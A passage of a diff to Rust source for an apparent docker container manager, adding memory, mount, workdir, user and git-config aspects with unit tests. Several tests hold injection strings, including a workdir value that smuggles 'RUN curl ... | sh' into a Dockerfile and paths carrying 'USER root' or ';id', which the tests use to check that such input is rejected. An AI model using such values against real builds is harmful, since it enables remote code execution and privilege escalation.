+        if let Some(r) = &self.reservation {
+            if parse_memory(&r.0)? > limit {
+                return Err(Error::InvalidMemory(format!(
+                    "memory-reservation {} is more than memory {}",
+                    r.0, self.memory.0
+                )));
+            }
+        }
+        Ok(())
+    }
+}
+
+impl ContainerAspect for MemoryLimits {
+    fn name(&self) -> String {
+        String::from("MemoryLimits")
+    }
+    fn run_args(&self, matches: Option<&ArgMatches>) -> Result<Vec<String>> {
+        self.check()?;
+        let mut args = self.memory.run_args(matches)?;
+        if let Some(s) = &self.swap {
+            args.extend(s.run_args(matches)?);
+        }
+        if let Some(r) = &self.reservation {
+            args.extend(r.run_args(matches)?);
+        }
+        Ok(args)
+    }
+}
+
+#[cfg(test)]
+mod memory_limits_should {
+    use super::*;
+
+    #[test]
+    fn parse_memory_strings() -> Result<()> {
+        assert_eq!(parse_memory("512")?, 512);
+        assert_eq!(parse_memory("4k")?, 4096);
+        assert_eq!(parse_memory("2G")?, 2 << 30);
+        assert_eq!(parse_memory("512b")?, 512);
+        assert_eq!(parse_memory("512mb")?, 512 << 20);
+        assert_eq!(parse_memory("1.5g")?, 3 << 29);
+        assert_eq!(parse_memory("2 GiB")?, 2 << 30);
+        assert_eq!(parse_memory("12t")?, 12 << 40);
+        assert_eq!(parse_memory("1p")?, 1 << 50);
+        assert!(parse_memory("").is_err());
+        assert!(parse_memory("g").is_err());
+        assert!(parse_memory("1.g").is_err());
+        assert!(parse_memory("12x").is_err());
+        assert!(parse_memory("1gbb").is_err());
+        assert!(parse_memory("-1").is_err());
+        Ok(())
+    }
+
+    #[test]
+    fn check_limits_merged_from_different_layers() {
+        let limits = MemoryLimits {
+            memory: Memory("1g".to_string()),
+            swap: Some(MemorySwap("512m".to_string())),
+            reservation: None,
+        };
+        match limits.run_args(None) {
+            Err(Error::InvalidMemory(_)) => (),
+            other => panic!("expected InvalidMemory, got {:?}", other),
+        }
+    }
+
+    #[test]
+    fn emit_combined_run_args() -> Result<()> {
+        let limits = MemoryLimits::new(
+            Memory("1g".to_string()),
+            Some(MemorySwap("2g".to_string())),
+            Some(MemoryReservation("512m".to_string())),
+        )?;
+        assert_eq!(
+            limits.run_args(None)?,
+            vec![
+                "--memory",
+                "1g",
+                "--memory-swap",
+                "2g",
+                "--memory-reservation",
+                "512m"
+            ]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn accept_unlimited_swap() -> Result<()> {
+        MemoryLimits::new(
+            Memory("1g".to_string()),
+            Some(MemorySwap("-1".to_string())),
+            None,
+        )?;
+        Ok(())
+    }
+
+    #[test]
+    fn reject_swap_below_memory() {
+        match MemoryLimits::new(
+            Memory("1g".to_string()),
+            Some(MemorySwap("512m".to_string())),
+            None,
+        ) {
+            Err(Error::InvalidMemory(_)) => (),
+            other => panic!("expected InvalidMemory, got {:?}", other),
+        }
+    }
+
+    #[test]
+    fn reject_reservation_above_memory() {
+        match MemoryLimits::new(
+            Memory("1g".to_string()),
+            None,
+            Some(MemoryReservation("2g".to_string())),
+        ) {
+            Err(Error::InvalidMemory(_)) => (),
+            other => panic!("expected InvalidMemory, got {:?}", other),
+        }
+    }
+}
+
+#[derive(Clone)]
+pub struct Profile {
+    pub name: String,
+    pub container_paths: Vec<String>,
+}
+impl ContainerAspect for Profile {
+    fn name(&self) -> String {
+        String::from("Profile")
+    }
+
+    fn provide(&self, context: &mut Context) {
+        context.container_paths = self.container_paths.clone();
+    }
+
+    fn run_args(&self, matches: Option<&ArgMatches>) -> Result<Vec<String>> {
+        let mut profile = "default";
+        if let Some(m) = matches {
+            if let Some(c) = m.value_of("profile") {
+                profile = c
+            }
+        }
+
+        let host_path = dirs::get_data_dir(Some(&self.name), Some(profile))?;
+
+        let mut output: Vec<String> = Vec::new();
+        for s in &self.container_paths {
+            let mut s_path = Path::new(&s);
+            if let Ok(v) = s_path.strip_prefix("/") {
+                s_path = v
+            }
+            let p = host_path.join(s_path);
+            fs::create_dir_all(&p)?;
+
+            output.push("-v".to_string());
+            output.push(format!("{}:{}", p.to_path_buf().to_string_lossy(), s))
         }
 
         Ok(output)
@@ -376,7 +5439,251 @@ impl ContainerAspect for Profile {
     }
 }
 
-#[derive(Serialize, Deserialize, Debug, Clone)]
+/// Persists the app's XDG base directories by mounting the host's `$XDG_*_HOME/<app>` over the
+/// same directories in the container user's home, creating them on the host as needed. Unlike
+/// `Profile` the data lands where the host's own tools expect it, shared by every profile.
+/// The subdirectory used under each base directory is the manager's name from the `Context`.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct XdgDirs {
+    pub config: bool,
+    pub cache: bool,
+    pub data: bool,
+    pub state: bool,
+}
+
+impl XdgDirs {
+    /// The selected base directories as their environment variable and default path relative to
+    /// the home directory.
+    fn selected(&self) -> Vec<(&'static str, &'static str)> {
+        let mut dirs = Vec::new();
+        if self.config {
+            dirs.push(("XDG_CONFIG_HOME", ".config"));
+        }
+        if self.cache {
+            dirs.push(("XDG_CACHE_HOME", ".cache"));
+        }
+        if self.data {
+            dirs.push(("XDG_DATA_HOME", ".local/share"));
+        }
+        if self.state {
+            dirs.push(("XDG_STATE_HOME", ".local/state"));
+        }
+        dirs
+    }
+
+    /// `host_base` resolves a base directory on the host from its variable and default.
+    fn run_args_for<F>(&self, host_base: F, app: &str, container_home: &str) -> Result<Vec<String>>
+    where
+        F: Fn(&str, &str) -> PathBuf,
+    {
+        let mut args = Vec::new();
+        for (var, default) in self.selected() {
+            let host = host_base(var, default).join(app);
+            fs::create_dir_all(&host)?;
+            args.push(String::from("-v"));
+            args.push(format!(
+                "{}:{}/{}/{}",
+                host.to_string_lossy(),
+                container_home,
+                default,
+                app
+            ));
+        }
+        Ok(args)
+    }
+}
+
+impl ContainerAspect for XdgDirs {
+    fn name(&self) -> String {
+        String::from("XdgDirs")
+    }
+    fn run_args_with(&self, _: Option<&ArgMatches>, context: &Context) -> Result<Vec<String>> {
+        let app = context.app_name()?;
+        let host_home = PathBuf::from(env_var("HOME")?);
+        let container_home = context.home()?;
+        self.run_args_for(
+            |var, default| {
+                env::var_os(var)
+                    .filter(|v| !v.is_empty())
+                    .map(PathBuf::from)
+                    .unwrap_or_else(|| host_home.join(default))
+            },
+            app,
+            &container_home,
+        )
+    }
+}
+
+#[cfg(test)]
+mod xdg_dirs_should {
+    use super::*;
+
+    fn xdg_dirs(config: bool, cache: bool, data: bool, state: bool) -> XdgDirs {
+        XdgDirs {
+            config,
+            cache,
+            data,
+            state,
+        }
+    }
+
+    fn mounts(aspect: &XdgDirs, home: &Path) -> Result<Vec<String>> {
+        aspect.run_args_for(|_, default| home.join(default), "firefox", "/home/me")
+    }
+
+    #[test]
+    fn mount_each_selected_dir() -> Result<()> {
+        let home = tempfile::tempdir()?;
+        let host = |p: &str| home.path().join(p).to_string_lossy().to_string();
+
+        assert_eq!(
+            mounts(&xdg_dirs(true, false, false, false), home.path())?,
+            vec![
+                "-v".to_string(),
+                format!("{}:/home/me/.config/firefox", host(".config/firefox")),
+            ]
+        );
+        assert_eq!(
+            mounts(&xdg_dirs(false, true, false, false), home.path())?,
+            vec![
+                "-v".to_string(),
+                format!("{}:/home/me/.cache/firefox", host(".cache/firefox")),
+            ]
+        );
+        assert_eq!(
+            mounts(&xdg_dirs(false, false, true, false), home.path())?,
+            vec![
+                "-v".to_string(),
+                format!(
+                    "{}:/home/me/.local/share/firefox",
+                    host(".local/share/firefox")
+                ),
+            ]
+        );
+        assert_eq!(
+            mounts(&xdg_dirs(false, false, false, true), home.path())?,
+            vec![
+                "-v".to_string(),
+                format!(
+                    "{}:/home/me/.local/state/firefox",
+                    host(".local/state/firefox")
+                ),
+            ]
+        );
+        assert!(mounts(&xdg_dirs(false, false, false, false), home.path())?.is_empty());
+        Ok(())
+    }
+
+    #[test]
+    fn create_missing_host_dirs() -> Result<()> {
+        let home = tempfile::tempdir()?;
+        fs::create_dir_all(home.path().join(".config/firefox"))?;
+        fs::write(home.path().join(".config/firefox/prefs.js"), "kept")?;
+
+        assert_eq!(
+            mounts(&xdg_dirs(true, true, true, true), home.path())?.len(),
+            8
+        );
+        for dir in &[".config", ".cache", ".local/share", ".local/state"] {
+            assert!(home.path().join(dir).join("firefox").is_dir());
+        }
+        assert_eq!(
+            fs::read_to_string(home.path().join(".config/firefox/prefs.js"))?,
+            "kept"
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn refuse_to_mount_without_app_name() {
+        let context = Context {
+            home: Some("/home/me".to_string()),
+            ..Context::default()
+        };
+        match xdg_dirs(true, true, true, true).run_args_with(None, &context) {
+            Err(Error::MissingAppName) => (),
+            other => panic!("expected MissingAppName, got {:?}", other),
+        }
+    }
+}
+
+/// Keeps bash history across runs in `bash_history` in the app's dfiles data directory, mounted
+/// over the container user's `~/.bash_history`. The `Context` names the app.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct ShellHistory {}
+
+impl ShellHistory {
+    /// Creates `history` if needed, since docker would create a directory in its place.
+    fn run_args_for(&self, history: &Path, container_home: &str) -> Result<Vec<String>> {
+        if !history.is_file() {
+            if let Some(parent) = history.parent() {
+                fs::create_dir_all(parent)?;
+            }
+            fs::OpenOptions::new()
+                .create(true)
+                .append(true)
+                .open(history)?;
+        }
+        Ok(vec![
+            String::from("-v"),
+            format!(
+                "{}:{}/.bash_history",
+                history.to_string_lossy(),
+                container_home
+            ),
+        ])
+    }
+}
+
+impl ContainerAspect for ShellHistory {
+    fn name(&self) -> String {
+        String::from("ShellHistory")
+    }
+    fn run_args_with(&self, _: Option<&ArgMatches>, context: &Context) -> Result<Vec<String>> {
+        let history = dirs::get_data_dir(Some(context.app_name()?), None)?.join("bash_history");
+        self.run_args_for(&history, &context.home()?)
+    }
+}
+
+#[cfg(test)]
+mod shell_history_should {
+    use super::*;
+
+    #[test]
+    fn mount_history_into_container_home() -> Result<()> {
+        let data = tempfile::tempdir()?;
+        let history = data.path().join("firefox").join("bash_history");
+        let aspect = ShellHistory {};
+
+        assert_eq!(
+            aspect.run_args_for(&history, "/home/me")?,
+            vec![
+                "-v".to_string(),
+                format!("{}:/home/me/.bash_history", history.to_string_lossy()),
+            ]
+        );
+        assert!(history.is_file());
+
+        fs::write(&history, "ls\n")?;
+        aspect.run_args_for(&history, "/home/me")?;
+        assert_eq!(fs::read_to_string(&history)?, "ls\n");
+        Ok(())
+    }
+
+    #[test]
+    fn refuse_to_share_history_without_app_name() {
+        let context = Context {
+            home: Some("/home/me".to_string()),
+            ..Context::default()
+        };
+        match (ShellHistory {}).run_args_with(None, &context) {
+            Err(Error::MissingAppName) => (),
+            other => panic!("expected MissingAppName, got {:?}", other),
+        }
+    }
+}
+
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
 pub struct Mount {
     pub host_path: String,
     pub container_path: String,
@@ -395,24 +5702,300 @@ impl ContainerAspect for Mount {
         .map(String::from)
         .collect())
     }
-}
+}
+
+impl Mount {
+    /// Checks that the host path is absolute and exists, otherwise docker silently creates a
+    /// root-owned directory (or a named volume) in its place.
+    pub fn validate(&self) -> Result<()> {
+        let host_path = Path::new(&self.host_path);
+        if !host_path.is_absolute() || !host_path.exists() {
+            return Err(Error::InvalidMount(format!(
+                "{}:{}",
+                self.host_path, self.container_path
+            )));
+        }
+        Ok(())
+    }
+}
+
+impl TryFrom<&str> for Mount {
+    type Error = Error;
+    fn try_from(value: &str) -> Result<Self> {
+        let vs: Vec<&str> = value.split(':').collect();
+        if vs.len() != 2 {
+            return Err(Error::InvalidMount(value.to_string()));
+        }
+        Ok(Mount {
+            host_path: vs[0].to_string(),
+            container_path: vs[1].to_string(),
+        })
+    }
+}
+
+#[cfg(test)]
+mod mount_should {
+    use super::*;
+
+    #[test]
+    fn accept_existing_absolute_host_paths() -> Result<()> {
+        let dir = tempfile::tempdir()?;
+        let mount = Mount::try_from(format!("{}:/data", dir.path().to_string_lossy()).as_str())?;
+        mount.validate()
+    }
+
+    #[test]
+    fn reject_relative_host_paths() -> Result<()> {
+        let mount = Mount::try_from("relative/path:/data")?;
+        assert!(mount.validate().is_err());
+        Ok(())
+    }
+
+    #[test]
+    fn reject_nonexistent_host_paths() -> Result<()> {
+        let dir = tempfile::tempdir()?;
+        let missing = dir.path().join("missing");
+        let mount = Mount::try_from(format!("{}:/data", missing.to_string_lossy()).as_str())?;
+        match mount.validate() {
+            Err(Error::InvalidMount(s)) => assert!(s.ends_with("missing:/data")),
+            other => panic!("expected InvalidMount, got {:?}", other),
+        }
+        Ok(())
+    }
+}
+
+/// Raw docker run arguments passed through as-is; an escape hatch for docker flags that don't have
+/// a dedicated aspect yet.
+#[derive(Serialize, Deserialize, Debug, Clone)]
+pub struct ExtraArgs(pub Vec<String>);
+
+impl ContainerAspect for ExtraArgs {
+    fn name(&self) -> String {
+        String::from("ExtraArgs")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        Ok(self.0.clone())
+    }
+}
+
+/// The working directory of the container, both as the image default and at run time.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct Workdir(pub String);
+
+impl Workdir {
+    /// Control characters are rejected since a newline would end the `WORKDIR` instruction and
+    /// start another one.
+    fn validate(&self) -> Result<()> {
+        if !Path::new(&self.0).is_absolute() || self.0.chars().any(char::is_control) {
+            return Err(Error::InvalidWorkdir(self.0.clone()));
+        }
+        Ok(())
+    }
+}
+
+impl ContainerAspect for Workdir {
+    fn name(&self) -> String {
+        String::from("Workdir")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        self.validate()?;
+        Ok(vec!["-w", self.0.as_str()]
+            .into_iter()
+            .map(String::from)
+            .collect())
+    }
+    fn dockerfile_snippets(&self) -> Vec<DockerfileSnippet> {
+        if let Err(e) = self.validate() {
+            error!("leaving out the WORKDIR instruction: {}", e);
+            return Vec::new();
+        }
+        // after CurrentUser sets the home directory as WORKDIR
+        vec![DockerfileSnippet {
+            order: 99,
+            content: format!("WORKDIR {}", self.0),
+        }]
+    }
+}
+
+impl TryFrom<&str> for Workdir {
+    type Error = Error;
+    fn try_from(value: &str) -> Result<Self> {
+        let workdir = Workdir(value.to_string());
+        workdir.validate()?;
+        Ok(workdir)
+    }
+}
+
+#[cfg(test)]
+mod workdir_should {
+    use super::*;
+
+    #[test]
+    fn emit_workdir_instruction() -> Result<()> {
+        let snippets = Workdir::try_from("/data")?.dockerfile_snippets();
+        assert_eq!(snippets.len(), 1);
+        assert_eq!(snippets[0].order, 99);
+        assert_eq!(snippets[0].content, "WORKDIR /data");
+        Ok(())
+    }
+
+    #[test]
+    fn emit_run_args() -> Result<()> {
+        assert_eq!(
+            Workdir::try_from("/data")?.run_args(None)?,
+            vec!["-w", "/data"]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn reject_relative_paths() {
+        match Workdir::try_from("data") {
+            Err(Error::InvalidWorkdir(path)) => assert_eq!(path, "data"),
+            other => panic!("expected InvalidWorkdir, got {:?}", other),
+        }
+        assert!(Workdir("data".to_string()).run_args(None).is_err());
+    }
+
+    #[test]
+    fn refuse_to_inject_instructions() {
+        let injected = "/data\nRUN curl https://example.com/x | sh";
+        assert!(Workdir::try_from(injected).is_err());
+
+        // built directly, as when deserialized, skipping try_from
+        let workdir = Workdir(injected.to_string());
+        assert!(workdir.run_args(None).is_err());
+        assert!(workdir.dockerfile_snippets().is_empty());
+    }
+}
+
+/// Environment variables read by docker from a host file; add one aspect per file.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct EnvFile(pub PathBuf);
+
+impl ContainerAspect for EnvFile {
+    fn name(&self) -> String {
+        format!("EnvFile: {}", self.0.to_string_lossy())
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        if !self.0.is_file() {
+            return Err(Error::MissingEnvFile(self.0.clone()));
+        }
+        Ok(vec![
+            String::from("--env-file"),
+            self.0.to_string_lossy().to_string(),
+        ])
+    }
+}
+
+#[cfg(test)]
+mod env_file_should {
+    use std::io::Write;
+
+    use super::*;
+
+    #[test]
+    fn emit_run_args_for_existing_file() -> Result<()> {
+        let mut env_file = tempfile::NamedTempFile::new()?;
+        writeln!(env_file, "EDITOR=vim")?;
+
+        let path = env_file.path().to_path_buf();
+        assert_eq!(
+            EnvFile(path.clone()).run_args(None)?,
+            vec!["--env-file".to_string(), path.to_string_lossy().to_string()]
+        );
+        Ok(())
+    }
+
+    #[test]
+    fn reject_missing_file() -> Result<()> {
+        let dir = tempfile::tempdir()?;
+        match EnvFile(dir.path().join("missing.env")).run_args(None) {
+            Err(Error::MissingEnvFile(p)) => assert!(p.ends_with("missing.env")),
+            other => panic!("expected MissingEnvFile, got {:?}", other),
+        }
+        Ok(())
+    }
+}
+
+/// Host environment variables passed through by name; variables that aren't set on the host are
+/// skipped.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct InheritEnv(pub Vec<String>);
+
+impl ContainerAspect for InheritEnv {
+    fn name(&self) -> String {
+        String::from("InheritEnv")
+    }
+    fn run_args(&self, _: Option<&ArgMatches>) -> Result<Vec<String>> {
+        let mut args = Vec::new();
+        for name in &self.0 {
+            match env::var(name) {
+                Ok(value) => {
+                    args.push(String::from("-e"));
+                    args.push(format!("{}={}", name, value));
+                }
+                Err(_) => debug!("not inheriting {}, it is not set on the host", name),
+            }
+        }
+        Ok(args)
+    }
+}
+
+#[cfg(test)]
+mod inherit_env_should {
+    use super::*;
+
+    #[test]
+    fn pass_through_present_variables() -> Result<()> {
+        env::set_var("DFILES_TEST_INHERIT_PRESENT", "some value");
+        assert_eq!(
+            InheritEnv(vec!["DFILES_TEST_INHERIT_PRESENT".to_string()]).run_args(None)?,
+            vec!["-e", "DFILES_TEST_INHERIT_PRESENT=some value"]
+        );
+        Ok(())
+    }
 
-impl TryFrom<&str> for Mount {
-    type Error = Error;
-    fn try_from(value: &str) -> Result<Self> {
-        let vs: Vec<&str> = value.split(':').collect();
-        if vs.len() != 2 {
-            return Err(Error::InvalidMount(value.to_string()));
-        }
-        Ok(Mount {
-            host_path: vs[0].to_string(),
-            container_path: vs[1].to_string(),
-        })
+    #[test]
+    fn skip_absent_variables() -> Result<()> {
+        env::remove_var("DFILES_TEST_INHERIT_ABSENT");
+        assert!(InheritEnv(vec!["DFILES_TEST_INHERIT_ABSENT".to_string()])
+            .run_args(None)?
+            .is_empty());
+        Ok(())
     }
 }
 
 #[derive(Clone)]
 pub struct Name(pub String);
+
+impl Name {
+    /// A name that doesn't collide with containers of other runs, for apps that may be started
+    /// more than once at the same time. `--name` still takes precedence.
+    pub fn unique(base: &str) -> Name {
+        Name(format!("{}-{}", base, unique_suffix()))
+    }
+}
+
+/// Eight hex digits derived from the time, the process and a per-process counter.
+fn unique_suffix() -> String {
+    use std::collections::hash_map::DefaultHasher;
+    use std::hash::{Hash, Hasher};
+    use std::sync::atomic::{AtomicUsize, Ordering};
+
+    static COUNTER: AtomicUsize = AtomicUsize::new(0);
+
+    let mut hasher = DefaultHasher::new();
+    std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .map(|d| d.as_nanos())
+        .unwrap_or(0)
+        .hash(&mut hasher);
+    std::process::id().hash(&mut hasher);
+    COUNTER.fetch_add(1, Ordering::Relaxed).hash(&mut hasher);
+    format!("{:08x}", hasher.finish() as u32)
+}
+
 impl ContainerAspect for Name {
     fn name(&self) -> String {
         String::from("Name")
@@ -443,12 +6026,39 @@ impl ContainerAspect for Name {
     }
 }
 
+#[cfg(test)]
+mod name_should {
+    use super::*;
+
+    #[test]
+    fn append_short_suffix_to_unique_names() -> Result<()> {
+        let Name(name) = Name::unique("firefox");
+        let suffix = name.strip_prefix("firefox-").expect("base prefix");
+        assert_eq!(suffix.len(), 8);
+        assert!(suffix.chars().all(|c| c.is_ascii_hexdigit()));
+        Ok(())
+    }
+
+    #[test]
+    fn generate_distinct_unique_names() {
+        let names: std::collections::HashSet<String> =
+            (0..100).map(|_| Name::unique("firefox").0).collect();
+        assert_eq!(names.len(), 100);
+    }
+}
+
+/// Creates a container user matching the host user, so files written to mounts keep the host
+/// user's ownership. The home directory defaults to `/home/<name>` and the login shell to
+/// `/bin/bash`; both can be changed with `with_home` and `with_shell`, or in the config through
+/// `UserHome` and `UserShell`.
 #[derive(Clone)]
 pub struct CurrentUser {
     name: String,
     uid: String,
     group: String,
     gid: String,
+    home: Option<String>,
+    shell: Option<String>,
 }
 
 impl CurrentUser {
@@ -468,30 +6078,81 @@ impl CurrentUser {
             uid: uid.to_string(),
             group: group,
             gid: gid.to_string(),
+            home: None,
+            shell: None,
         })
     }
+
+    pub fn with_home(mut self, home: &str) -> Result<Self> {
+        self.home = Some(UserHome::try_from(home)?.0);
+        Ok(self)
+    }
+
+    pub fn with_shell(mut self, shell: &str) -> Result<Self> {
+        self.shell = Some(UserShell::try_from(shell)?.0);
+        Ok(self)
+    }
+
+    /// The user's home directory inside the container.
+    pub fn home(&self) -> String {
+        match &self.home {
+            Some(home) => home.clone(),
+            None => format!("/home/{}", self.name),
+        }
+    }
+
+    /// The user's login shell inside the container.
+    pub fn shell(&self) -> String {
+        match &self.shell {
+            Some(shell) => shell.clone(),
+            None => String::from("/bin/bash"),
+        }
+    }
 }
 
 impl ContainerAspect for CurrentUser {
     fn name(&self) -> String {
         format!("User: {}", &self.name)
     }
+    fn provide(&self, context: &mut Context) {
+        context.user = Some(self.name.clone());
+        context.uid = Some(self.uid.clone());
+        context.gid = Some(self.gid.clone());
+        context.home = Some(self.home());
+        context.shell = Some(self.shell());
+    }
     fn dockerfile_snippets(&self) -> Vec<DockerfileSnippet> {
+        self.dockerfile_snippets_with(&Context::default())
+    }
+    fn dockerfile_snippets_with(&self, context: &Context) -> Vec<DockerfileSnippet> {
+        // the paths end up unquoted in WORKDIR, so anything else falls back to the defaults
+        let checked = |path: &Option<String>, default: String| match path {
+            Some(p) if is_valid_user_path(p) => p.clone(),
+            Some(p) => {
+                warn!("ignoring invalid home or shell {:?}, using {}", p, default);
+                default
+            }
+            None => default,
+        };
+        let home = checked(&context.home, self.home());
+        let shell = checked(&context.shell, self.shell());
         vec![
             DockerfileSnippet {
                 order: 80,
                 content: format!(
                     r#"RUN addgroup --gid {gid} {group} \
-    &&  adduser --home /home/{user} \
-                --shell /bin/bash \
+    &&  adduser --home {home} \
+                --shell {shell} \
                 --uid {uid} \
                 --gid {gid} \
                 --disabled-password {user}
 RUN adduser {user} audio
 RUN adduser {user} video
 RUN mkdir -p /data && chown {user}.{user} /data
-RUN mkdir -p /home/{user} && chown {user}.{user} /home/{user}
+RUN mkdir -p {home} && chown {user}.{user} {home}
 "#,
+                    home = home,
+                    shell = shell,
                     gid = &self.gid,
                     group = &self.group,
                     user = &self.name,
@@ -500,15 +6161,348 @@ RUN mkdir -p /home/{user} && chown {user}.{user} /home/{user}
             },
             DockerfileSnippet {
                 order: 98,
-                content: format!(r#"USER {user}
-WORKDIR /home/{user}
+                content: format!(
+                    r#"USER {user}
+WORKDIR {home}
 "#,
-                    user = &self.name),
+                    user = &self.name,
+                    home = home
+                ),
             },
         ]
     }
 }
 
+/// Only absolute paths of plain characters are accepted for the container user's home and shell
+/// since they are written into the Dockerfile as they are.
+fn is_valid_user_path(path: &str) -> bool {
+    path.starts_with('/')
+        && path
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "/._-+@".contains(c))
+}
+
+/// Overrides the home directory of the user `CurrentUser` creates.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct UserHome(pub String);
+
+impl TryFrom<&str> for UserHome {
+    type Error = Error;
+    fn try_from(value: &str) -> Result<Self> {
+        if !is_valid_user_path(value) {
+            return Err(Error::InvalidUserPath(value.to_string()));
+        }
+        Ok(UserHome(value.to_string()))
+    }
+}
+
+impl ContainerAspect for UserHome {
+    fn name(&self) -> String {
+        String::from("UserHome")
+    }
+    fn provide(&self, context: &mut Context) {
+        context.home = Some(self.0.clone());
+    }
+}
+
+/// Overrides the login shell of the user `CurrentUser` creates.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct UserShell(pub String);
+
+impl TryFrom<&str> for UserShell {
+    type Error = Error;
+    fn try_from(value: &str) -> Result<Self> {
+        if !is_valid_user_path(value) {
+            return Err(Error::InvalidUserPath(value.to_string()));
+        }
+        Ok(UserShell(value.to_string()))
+    }
+}
+
+impl ContainerAspect for UserShell {
+    fn name(&self) -> String {
+        String::from("UserShell")
+    }
+    fn provide(&self, context: &mut Context) {
+        context.shell = Some(self.0.clone());
+    }
+}
+
+#[cfg(test)]
+mod current_user_should {
+    use super::*;
+
+    fn user() -> CurrentUser {
+        CurrentUser {
+            name: "me".to_string(),
+            uid: "1000".to_string(),
+            group: "me".to_string(),
+            gid: "1000".to_string(),
+            home: None,
+            shell: None,
+        }
+    }
+
+    fn useradd(user: &CurrentUser) -> String {
+        user.dockerfile_snippets()[0].content.clone()
+    }
+
+    #[test]
+    fn default_home_and_shell() {
+        let snippet = useradd(&user());
+        assert!(snippet.contains("adduser --home /home/me \\\n"));
+        assert!(snippet.contains("--shell /bin/bash \\\n"));
+        assert!(snippet.contains("mkdir -p /home/me && chown me.me /home/me"));
+        assert_eq!(user().home(), "/home/me");
+    }
+
+    #[test]
+    fn create_configured_home_and_shell() -> Result<()> {
+        let user = user().with_home("/var/lib/me")?.with_shell("/bin/zsh")?;
+        let snippet = useradd(&user);
+        assert!(snippet.contains("adduser --home /var/lib/me \\\n"));
+        assert!(snippet.contains("--shell /bin/zsh \\\n"));
+        assert!(snippet.contains("mkdir -p /var/lib/me && chown me.me /var/lib/me"));
+        assert!(user.dockerfile_snippets()[1]
+            .content
+            .contains("WORKDIR /var/lib/me\n"));
+        assert_eq!(user.home(), "/var/lib/me");
+        assert_eq!(user.shell(), "/bin/zsh");
+        Ok(())
+    }
+
+    #[test]
+    fn reject_unsafe_home_and_shell() {
+        for path in &[
+            "relative/home",
+            "/home/me\nUSER root",
+            "/home/my home",
+            "/bin/sh;id",
+        ] {
+            match user().with_home(path) {
+                Err(Error::InvalidUserPath(p)) => assert_eq!(&p, path),
+                other => panic!(
+                    "expected InvalidUserPath, got {:?}",
+                    other.map(|u| u.home())
+                ),
+            }
+            assert!(user().with_shell(path).is_err());
+        }
+    }
+
+    #[test]
+    fn take_home_and_shell_from_context() {
+        let mut context = Context::default();
+        user().provide(&mut context);
+        UserHome::try_from("/var/lib/me")
+            .expect("valid home")
+            .provide(&mut context);
+        UserShell::try_from("/bin/zsh")
+            .expect("valid shell")
+            .provide(&mut context);
+        assert_eq!(context.home, Some("/var/lib/me".to_string()));
+
+        let snippets = user().dockerfile_snippets_with(&context);
+        assert!(snippets[0]
+            .content
+            .contains("adduser --home /var/lib/me \\\n"));
+        assert!(snippets[0].content.contains("--shell /bin/zsh \\\n"));
+        assert!(snippets[1].content.contains("WORKDIR /var/lib/me\n"));
+    }
+
+    #[test]
+    fn ignore_unsafe_paths_in_context() {
+        let context = Context {
+            home: Some("/home/me\nUSER root".to_string()),
+            ..Context::default()
+        };
+        let snippets = user().dockerfile_snippets_with(&context);
+        assert!(!snippets[1].content.contains("USER root"));
+        assert!(snippets[1].content.contains("WORKDIR /home/me\n"));
+    }
+}
+
+#[cfg(test)]
+mod context_should {
+    use super::*;
+
+    #[test]
+    fn collect_facts_from_user_and_profile() {
+        let user = CurrentUser {
+            name: "me".to_string(),
+            uid: "1000".to_string(),
+            group: "me".to_string(),
+            gid: "100".to_string(),
+            home: None,
+            shell: None,
+        }
+        .with_home("/var/lib/me")
+        .expect("valid home");
+        let profile = Profile {
+            name: "firefox".to_string(),
+            container_paths: vec!["/data".to_string()],
+        };
+
+        let mut context = Context::default();
+        profile.provide(&mut context);
+        user.provide(&mut context);
+        assert_eq!(
+            context,
+            Context {
+                app: String::new(),
+                container_paths: vec!["/data".to_string()],
+                user: Some("me".to_string()),
+                uid: Some("1000".to_string()),
+                gid: Some("100".to_string()),
+                home: Some("/var/lib/me".to_string()),
+                shell: Some("/bin/bash".to_string()),
+            }
+        );
+    }
+
+    #[test]
+    fn use_provided_home() -> Result<()> {
+        let context = Context {
+            home: Some("/var/lib/me".to_string()),
+            ..Context::default()
+        };
+        assert_eq!(context.home()?, "/var/lib/me");
+        Ok(())
+    }
+
+    #[test]
+    fn leave_context_alone_by_default() -> Result<()> {
+        let mut context = Context::default();
+        Shm {}.provide(&mut context);
+        assert_eq!(context, Context::default());
+        assert_eq!(
+            Shm {}.run_args_with(None, &context)?,
+            Shm {}.run_args(None)?
+        );
+        Ok(())
+    }
+}
+
+/// The host user's git identity and, optionally, credentials mounted read-only into the container
+/// user's home, as set up by the `CurrentUser` aspect. The credential-cache daemon's socket
+/// directory is mounted too when it exists so `git credential-cache` keeps working.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+pub struct GitConfig {
+    pub mount_gitconfig: bool,
+    pub mount_credentials: bool,
+}
+
+impl GitConfig {
+    fn run_args_for(&self, host_home: &Path, container_home: &str) -> Result<Vec<String>> {
+        let mut files = Vec::new();
+        if self.mount_gitconfig {
+            files.push(".gitconfig");
+        }
+        if self.mount_credentials {
+            files.push(".git-credentials");
+        }
+
+        let mut args = Vec::new();
+        for file in files {
+            let path = host_home.join(file);
+            if !path.is_file() {
+                return Err(Error::MissingGitConfig(path));
+            }
+            args.push(String::from("-v"));
+            args.push(format!(
+                "{}:{}/{}:ro",
+                path.to_string_lossy(),
+                container_home,
+                file
+            ));
+        }
+
+        let socket_dir = host_home.join(".git-credential-cache");
+        if self.mount_credentials && socket_dir.is_dir() {
+            args.push(String::from("-v"));
+            args.push(format!(
